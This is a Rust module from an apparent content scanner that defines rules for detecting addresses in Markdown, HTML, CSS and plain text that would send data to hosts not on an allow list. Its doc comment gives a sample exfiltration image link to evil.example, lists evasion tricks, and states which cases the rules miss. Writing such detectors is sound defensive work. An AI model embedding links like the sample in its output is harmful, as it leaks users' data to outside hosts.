//! Addresses through which data would travel to a host that was not allowed.

mod html;
mod markdown;
mod place;
mod text;

use std::sync::Arc;

use rule_scan::Rule;

use crate::hosts::AllowedHosts;

/// Names a region after secrets, which hide more.
const RANK: u8 = 150;

/// The rules for addresses in Markdown, HTML, CSS and running text that carry data to a host which
/// is not allowed.
///
/// | kind | what of the text it covers |
/// |---|---|
/// | `exfil.markdown_image` | the beginning of an image's address |
/// | `exfil.markdown_link` | the same of a link or of a definition that links refer to |
/// | `exfil.html` | an attribute that loads something or leads somewhere |
/// | `exfil.form` | an attribute that says where a form goes |
/// | `exfil.css` | `url(...)` and `@import` |
/// | `exfil.refresh` | a page that leads on by itself |
/// | `exfil.url` | an address in running text |
/// | `exfil.data` | what follows the host of any of these |
/// | `exfil.redirect` | the same, of an allowed host that would lead on to one that is not |
///
/// So `![chart](https://evil.example/x?q=DATA)` becomes
/// `![chart[exfil.markdown_image]evil.example[exfil.data]`: nothing is fetched, and a reader sees
/// the text and where it would have led. A host that carries data itself, or was made to be taken
/// for another, is covered with the rest by the kind of the place.
///
/// **What counts.** The bits of data are estimated that path, query, fragment and labels below the
/// registered domain could hold. What is ordinary for its place costs little (words of titles,
/// versions, digests that name files, settings such as `?style=flat`), what is not as much as its
/// alphabet can hold, and text in base64, hexadecimal or needless percent-encoding, addresses of
/// mail and templates (`{data}`) always count. What is fetched without anybody's doing counts from
/// 24 bits on, what has to be followed from 72, half of that for a host that is a number. An
/// address of more than 160 bytes after its host counts. Whatever they carry, so do hosts that
/// imitate an allowed one or mix scripts, odd forms of numbers, users in a link or a host in the
/// place of one, forms and bases of pages, shares of files, and addresses that act (`javascript:`).
///
/// **What is left out.** What a script would fetch, styles and attributes that are put together from
/// escapes of CSS, of an allowed host what stands more than 160 bytes after it, the text of an address that is cut by a space where its form allows none, and data
/// that are spread over many images or links, each with little.
#[must_use]
pub fn exfil_rules(allowed: &AllowedHosts) -> Vec<Rule> {
    let allowed = Arc::new(allowed.clone());
    let places = [markdown::places(), html::places(), text::places()];
    places.into_iter().flatten().flat_map(|place| place.rules(&allowed)).collect()
}
